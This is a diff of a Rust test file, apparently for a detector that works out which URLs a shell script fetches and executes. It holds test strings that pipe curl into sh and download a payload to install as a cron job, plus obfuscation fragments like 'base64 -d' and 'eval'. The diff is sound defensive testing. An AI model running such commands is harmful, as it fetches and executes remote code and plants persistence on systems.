@@ -55,7 +55,10 @@ fn what_is_fetched_is_known_until_it_runs() {
         (". <(curl -s http://a.example/x)", &["http://a.example/x"]),
         ("curl -sL http://a.example/x.tgz | tar xz -C /opt/x; /opt/x/run", &["http://a.example/x.tgz"]),
         ("r() { curl -s $1 | sh; }; r http://a.example/x", &["http://a.example/x"]),
-        ("curl -so /opt/x http://a.example/x; echo '* * * * * sh /opt/x' | crontab -", &["http://a.example/x"]),
+        (
+            "curl -so /opt/x http://a.example/x; echo '* * * * * sh /opt/x' | crontab -",
+            &["http://a.example/x"],
+        ),
         ("curl -so /opt/x http://a.example/x; bash /opt/y", &[]),
         ("curl -s http://a.example/x | grep y", &[]),
         ("curl -s http://a.example/x | python3 -m json.tool", &[]),
@@ -81,7 +84,11 @@ fn what_is_sent_is_of_the_machine_and_goes_to_a_bucket_or_an_address() {
     ];
     for (script, targets, buckets) in cases {
         let shell = read(script);
-        assert_eq!((shell.upload_targets.as_slice(), shell.upload_buckets.as_slice()), (strings(targets).as_slice(), strings(buckets).as_slice()), "{script}");
+        assert_eq!(
+            (shell.upload_targets.as_slice(), shell.upload_buckets.as_slice()),
+            (strings(targets).as_slice(), strings(buckets).as_slice()),
+            "{script}"
+        );
     }
 }
 
@@ -115,8 +122,38 @@ fn what_asks_for_more_than_its_size_is_worth_is_cut_and_says_so() {
 
 /// Pieces that scripts are made of, and that hostile ones are made of too.
 const PIECES: [&str; 32] = [
-    "curl ", "http://a.example/x ", "| ", "sh ", "$(", ")", "`", "'", "\"", "<<E\n", "\nE\n", "> f ", "< f ", "& ", "; ", "\n",
-    "${a:", "}", "a=$a$a ", "{x,y}", "( ", "{ ", "done ", "for i in ", "base64 -d ", "eval ", "\\", "ü", "/???/c*l ", "f() {", "<(", "$'\\x",
+    "curl ",
+    "http://a.example/x ",
+    "| ",
+    "sh ",
+    "$(",
+    ")",
+    "`",
+    "'",
+    "\"",
+    "<<E\n",
+    "\nE\n",
+    "> f ",
+    "< f ",
+    "& ",
+    "; ",
+    "\n",
+    "${a:",
+    "}",
+    "a=$a$a ",
+    "{x,y}",
+    "( ",
+    "{ ",
+    "done ",
+    "for i in ",
+    "base64 -d ",
+    "eval ",
+    "\\",
+    "ü",
+    "/???/c*l ",
+    "f() {",
+    "<(",
+    "$'\\x",
 ];
 
 proptest! {
